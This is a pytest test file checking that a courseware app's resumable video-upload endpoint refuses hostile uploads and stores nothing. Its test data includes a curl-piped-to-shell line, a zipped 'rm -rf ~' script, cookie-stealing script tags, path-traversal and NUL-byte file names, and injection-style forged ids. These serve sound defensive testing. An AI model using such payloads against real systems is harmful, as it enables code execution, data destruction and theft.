"""Hostile uploads through the tus endpoint: each is refused and nothing is stored.

Already covered elsewhere (not repeated here):
- tests/test_media_upload.py::test_files_that_are_not_whole_videos_are_refused_and_nothing_is_kept:
  text renamed .mp4, a truncated video, HTML/script saved as .mp4, the HTML+MP4 polyglot, random bytes
  (422, no MediaFile, no Upload row, no file under MEDIA_ROOT);
- ...::test_zero_byte_file_is_refused_at_creation (400) and
  ...::test_declared_size_over_the_limit_gets_413_before_any_byte (limit + 1 byte: 413, nothing stored);
- ...::test_another_users_upload_is_404 (HEAD, PATCH, DELETE of another trainee's upload: 404);
- ...::test_protocol_errors (a PATCH with Content-Type application/json: 415);
- ...::test_phone_video_is_accepted_stored_and_transcoded (a "../../" file name is stripped for display);
- tests/test_practicals_upload.py::test_another_trainee_cannot_upload_to_my_version (404 per role).

This file adds: a shell script and bare JavaScript saved as .mp4, ZIP+MP4 polyglots in both orders,
path traversal / absolute paths / NUL bytes in the file name (the stored key never uses it), lengths
far over the limit or malformed (refused before anything is stored), another trainee's submission
version or a forged target id as the target (404, nothing stored, the victim's version untouched),
a PATCH into another trainee's upload or through a forged upload id (404, not a byte written), and
wrong Content-Types on PATCH (415, not a byte written).
"""
import io
import re
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from courseware.extensions import db
from courseware.media.models import MediaFile, Upload
from courseware.practicals.service import UPLOAD_KIND

from .conftest import login_as
from .media_tus import TUS, create, patch, upload


def _count(model):
    return db.session.scalar(select(func.count()).select_from(model))


def _files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _assert_nothing_stored(app, media_target=None):
    assert _count(MediaFile) == 0 and _count(Upload) == 0
    assert _files_under(Path(app.config["MEDIA_ROOT"])) == []
    if media_target is not None:
        assert media_target == []


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", "<html><script>alert(document.cookie)</script></html>" * 10)
        archive.writestr("run.sh", "#!/bin/sh\nrm -rf ~\n")
    return buffer.getvalue()


HOSTILE = {
    "shell script saved as .mp4": lambda clip: b"#!/bin/sh\ncurl http://example.invalid/x | sh\n" * 50,
    "bare JavaScript saved as .mp4": lambda clip: b"fetch('/admin').then(r => r.text()).then(alert);\n" * 50,
    "ZIP then MP4": lambda clip: _zip_bytes() + clip,
    "MP4 then ZIP (a valid video that is also a ZIP archive)": lambda clip: clip + _zip_bytes(),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_content_saved_as_mp4_is_refused_and_nothing_is_kept(app, as_user, media_clips, media_target,
                                                                     name):
    data = HOSTILE[name](media_clips["h264_mp4"].read_bytes())
    if "then ZIP" in name:
        assert zipfile.is_zipfile(io.BytesIO(data))  # the polyglot really opens as an archive
    client = as_user("trainee")
    location, last = upload(client, data, filename="dialog.mp4")
    assert last.status_code == 422, last.get_data(as_text=True)
    assert last.get_json()["message"].startswith("Video ditolak:")
    _assert_nothing_stored(app, media_target)
    assert client.head(location, headers=TUS).status_code == 404


HOSTILE_NAMES = ["../../etc/passwd.mp4", "/etc/passwd.mp4", "..\\..\\Windows\\win.ini.mp4",
                 "C:\\Users\\Public\\x.mp4", "video\x00.php.mp4", "\x00", "..", "%2e%2e%2fpasswd.mp4",
                 "a" * 400 + ".mp4"]


@pytest.mark.parametrize("filename", HOSTILE_NAMES)
def test_file_name_never_reaches_the_storage_key(app, as_user, media_clips, media_target, monkeypatch,
                                                 tmp_path, filename):
    from courseware.media import files

    monkeypatch.setattr(files, "enqueue_processing", lambda file_id: None)  # storage is what matters here
    client = as_user("trainee")
    data = media_clips["h264_mp4"].read_bytes()
    location, last = upload(client, data, filename=filename)
    assert last.status_code == 204, last.get_data(as_text=True)
    media = db.session.get(MediaFile, int(last.headers["Media-File-Id"]))
    upload_id = location.rsplit("/", 1)[-1]
    # The key is built from the random upload id and the container only.
    assert re.fullmatch(rf"originals/{upload_id[:2]}/{upload_id}\.(mp4|mov|m4v|3gp|3g2)", media.original_key)
    assert media.original_key.endswith(".mp4") or not filename.endswith(".mp4")
    shown = media.original_filename
    assert "/" not in shown and "\\" not in shown and "\x00" not in shown and len(shown) <= 120
    assert shown not in ("", ".", "..")
    media_root = Path(app.config["MEDIA_ROOT"])
    assert _files_under(media_root) == [media_root / "files" / media.original_key]
    # Nothing was written next to the media folder either (tmp_path holds the database and media).
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and ("passwd" in p.name or "win.ini" in p.name)]


def test_a_hostile_name_on_a_hostile_file_leaves_nothing(app, as_user, media_target, tmp_path):
    _, last = upload(as_user("trainee"), b"<html><script>x</script></html>" * 40, filename="../../../evil.html")
    assert last.status_code == 422
    _assert_nothing_stored(app, media_target)
    assert not [p for p in tmp_path.rglob("*") if "evil" in p.name]


@pytest.mark.parametrize("length, status", [
    ("0", 400),
    (str(2 * 1024**4), 413),                 # 2 TiB declared
    ("9" * 40, 413),                         # more than any 64-bit integer
    ("-1", 400), ("1e9", 400), ("0x10", 400), (" ", 400), ("12 34", 400),
])
def test_bad_or_huge_declared_length_is_refused_before_anything_is_stored(app, as_user, media_target,
                                                                         length, status):
    response = create(as_user("trainee"), 0, **{"Upload-Length": length})
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.get_json()["message"]
    _assert_nothing_stored(app, media_target)


# --- targets and uploads that belong to someone else --------------------------------------

@pytest.fixture
def versions(app, users, practicals):
    """A LIK_2 submission version of trainee (the victim) and the practicals upload kind."""
    from courseware.classes.models import Enrollment
    from courseware.classes.service import create_class
    from courseware.practicals.service import save_version

    classroom = create_class(users["teacher"], "XI MPLB 1", "2026/2027")
    for role in ("trainee", "trainee2"):
        db.session.add(Enrollment(classroom_id=classroom.id, user_id=users[role].id))
    db.session.commit()
    version, _ = save_version(users["trainee"], practicals["LIK_2"], None, "")
    return {"victim": version.id, "kind": UPLOAD_KIND}


@pytest.mark.parametrize("target_id", ["victim", "999999", "0", "-1", "1 OR 1=1", "../1", "1/../2", "１"])
def test_another_trainees_version_or_a_forged_target_is_404_and_nothing_is_stored(app, users, versions,
                                                                                 media_clips, target_id):
    from courseware.practicals.models import SubmissionVersion

    target = str(versions["victim"]) if target_id == "victim" else target_id
    attacker = login_as(app.test_client(), users["trainee2"])
    data = media_clips["h264_mp4"].read_bytes()
    response = create(attacker, len(data), kind=versions["kind"], target_id=target)
    assert response.status_code == 404, response.get_data(as_text=True)
    assert response.get_json()["message"] == "Versi kiriman tidak ditemukan."
    _assert_nothing_stored(app)
    assert db.session.get(SubmissionVersion, versions["victim"]).media_file_id is None


def test_patch_into_another_trainees_upload_writes_nothing(app, users, media_target):
    owner = login_as(app.test_client(), users["trainee"])
    location = create(owner, 100).headers["Location"]
    assert patch(owner, location, 0, b"A" * 10).status_code == 204
    upload_id = location.rsplit("/", 1)[-1]
    partial = Path(app.config["MEDIA_ROOT"]) / "uploads" / f"{upload_id}.part"
    attacker = login_as(app.test_client(), users["trainee2"])
    for offset in (10, 0):
        response = patch(attacker, location, offset, b"EVIL" * 5)
        assert response.status_code == 404 and response.get_json()["message"] == "Unggahan tidak ditemukan."
    assert partial.read_bytes() == b"A" * 10
    assert db.session.get(Upload, upload_id).offset == 10
    # Forged ids (path tricks, another id's prefix) are 404 and touch no file.
    for forged in ("..%2F..%2Fetc%2Fpasswd", upload_id[:31], upload_id.upper(), upload_id + ".part", "%00"):
        assert patch(attacker, f"/media/tus/{forged}", 0, b"x").status_code == 404, forged
        assert patch(owner, f"/media/tus/{forged}", 10, b"x").status_code == 404, forged
    assert sorted(p.name for p in partial.parent.iterdir()) == [partial.name]
    assert partial.read_bytes() == b"A" * 10


@pytest.mark.parametrize("content_type", [None, "application/octet-stream", "multipart/form-data; boundary=x",
                                          "text/html", "video/mp4", "application/x-www-form-urlencoded"])
def test_patch_with_a_wrong_content_type_is_415_and_writes_nothing(app, as_user, media_target, content_type):
    client = as_user("trainee")
    location = create(client, 100).headers["Location"]
    upload_id = location.rsplit("/", 1)[-1]
    headers = {**TUS, "Upload-Offset": "0", "X-CSRFToken": client.csrf_token()}
    if content_type:
        headers["Content-Type"] = content_type
    response = client.patch(location, data=b"<html><script>x</script></html>", headers=headers)
    assert response.status_code == 415, response.get_data(as_text=True)
    assert "application/offset+octet-stream" in response.get_json()["message"]
    partial = Path(app.config["MEDIA_ROOT"]) / "uploads" / f"{upload_id}.part"
    assert partial.stat().st_size == 0
    assert db.session.get(Upload, upload_id).offset == 0 and _count(MediaFile) == 0
    assert re.fullmatch(r"[0-9a-f]{32}", upload_id)
